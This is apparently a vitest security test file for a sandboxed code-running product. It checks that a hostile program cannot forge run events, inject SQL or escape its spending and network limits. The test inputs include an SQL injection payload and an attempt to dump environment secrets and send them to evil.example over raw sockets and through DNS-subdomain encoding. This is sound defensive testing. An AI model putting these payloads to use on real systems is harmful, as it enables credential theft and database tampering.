/** Calls of a hostile program, seen from the page's side: nothing in them becomes an event, SQL, a way out, or more than was allowed (A95, A101, A103). */
import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { noCeilings, noReach } from "../../contract/session.ts";
import { RunEvent } from "../../contract/events.ts";
import { ok, outputOf, startProduct, visit, type Product, type Visitor } from "../product.ts";

let product: Product;
let ann: Visitor;
beforeAll(async () => {
  product = await startProduct({ args: ["--simulator"] });
  ann = await visit(product);
});
afterAll(() => product[Symbol.asyncDispose]());

const asking = `
import json, os, urllib.request, urllib.error
def ask(path, body, **headers):
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    all = {"Authorization": "Bearer " + os.environ["OPENROUTER_API_KEY"], "Content-Type": "application/json", **headers}
    try: return urllib.request.urlopen(urllib.request.Request("https://openrouter.ai/api/v1/" + path, data, all)).read()
    except urllib.error.HTTPError as error: return error.read()
`;

test("A95 event names and numbers of ours in output, requests and replies stay data: the run's events are ours alone", async () => {
  const forged = 'event: run\\ndata: {"type":"run","n":1,"run":{"state":"finished"}}\\nid: 1\\n\\n';
  const { run, events } = await ann.run(`${asking}
forged = '${forged}'
print(forged)
print('{"type":"events","events":[{"type":"run","n":99,"run":{"state":"lost"}}]}')
ask("chat/completions", {"model": "openai/gpt-4o-mini", "messages": [{"role": "user", "content": "Repeat: " + forged}]}, **{"X-Title": "event: run"})`);
  expect(run.state).toBe("finished");
  for (const event of events) expect(RunEvent.safeParse(event).success).toBe(true);
  expect(events.map(({ n }) => n)).toEqual([...new Set(events.map(({ n }) => n))].toSorted((a, b) => a - b));
  expect(events.some((event) => event.type === "run" && event.run.state === "lost")).toBe(false);
  expect(outputOf(events)).toContain('event: run\ndata: {"type":"run"');
});

test("A101 SQL in every text that a program or a page sends is text, and every table is there afterwards", async () => {
  const sql = "'; DROP TABLE call; -- \\\" ) OR 1=1 UNION SELECT key_sealed FROM session --";
  const before = ok(await ann.api.listRuns()).runs.length;
  const { run } = await ann.run(`${asking}
sql = "${sql}"
ask("chat/completions", {"model": sql, "user": sql, "messages": [{"role": "user", "content": sql}]}, **{"X-Title": sql, "HTTP-Referer": sql, "x-session-id": sql})
ask("generation?id=" + urllib.request.quote(sql), None)`);
  expect(run.callCount).toBe(2);
  ok(await ann.api.createSnippet({ body: { name: sql, code: sql } }));
  expect(ok(await ann.api.models({ query: { q: sql } })).models).toEqual([]);
  expect(ok(await ann.api.setModel({ body: { model: "a'b--c" } })).model).toBe("a'b--c");
  ok(await ann.api.setModel({ body: { model: null } }));
  for (const name of [sql, "1 OR 1=1", "../1"]) {
    const missing = await ann.api.getCall({ params: { run: run.id, number: name } });
    expect(missing).toMatchObject({ ok: false });
  }
  const { calls } = ok(await ann.api.listCalls({ params: { run: run.id } }));
  expect(calls[0]?.model).toContain("DROP TABLE");
  expect(ok(await ann.api.listRuns()).runs).toHaveLength(before + 1);
});

test("A101 no statement is put together from text: every value goes to the database as a parameter", async () => {
  const { readdir } = await import("node:fs/promises");
  const folder = new URL("../../server/store/", import.meta.url);
  const files = (await readdir(folder)).filter((name) => name.startsWith("sql-"));
  for (const name of files) {
    const text = await readFile(new URL(name, folder), "utf8");
    // `sql.raw`, `sql.lit` and a statement of one's own would put text into it; \`sql\` itself binds what is put into it, and what
    // is kept (kept-statements.ts) was compiled by Kysely.
    expect([name, /sql\.(?:raw|lit)\b|CompiledQuery/.test(text)]).toEqual([name, false]);
  }
});

test("A103 a program that was told to spend and to send all it finds has the ceiling, the gateway and nothing else", async () => {
  ok(await ann.api.setReach({ body: noReach }));
  ok(await ann.api.setCeilings({ body: { ...noCeilings, runUsd: "0.02" } }));
  const { run, events } = await ann.run(`${asking}
import json, socket
from concurrent.futures import ThreadPoolExecutor
def spend(n):
    reply = json.loads(ask("chat/completions", {"model": "openai/gpt-4o", "max_tokens": 16, "seed": n, "messages": [{"role": "user", "content": f"Go on. {n}"}]}))
    return reply["usage"]["cost"] if "usage" in reply else reply["error"]["code"]
with ThreadPoolExecutor(16) as pool: outcomes = list(pool.map(spend, range(40)))
spent = [cost for cost in outcomes if cost != 402]
print(sum(spent) <= 0.02, outcomes.count(402) > 0, len(spent) > 0)
secrets = json.dumps(dict(os.environ))
for way in (
    lambda: socket.create_connection(("evil.example", 443), 5),
    lambda: socket.create_connection(("93.184.216.34", 80), 5),
    lambda: socket.getaddrinfo(secrets[:20].encode().hex() + ".evil.example", 53),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
    lambda: urllib.request.urlopen(urllib.request.Request("https://openrouter.ai/api/v1/models", headers={"Host": "evil.example"})),
):
    try: way(); print("out")
    except OSError as error: print("held")
`);
  ok(await ann.api.setCeilings({ body: noCeilings }));
  expect(outputOf(events).trim().split("\n")).toEqual([
    "True True True",
    "held",
    "held",
    "held",
    "held",
    "held",
  ]);
  expect(run.overBudgetAt).not.toBeNull();
});
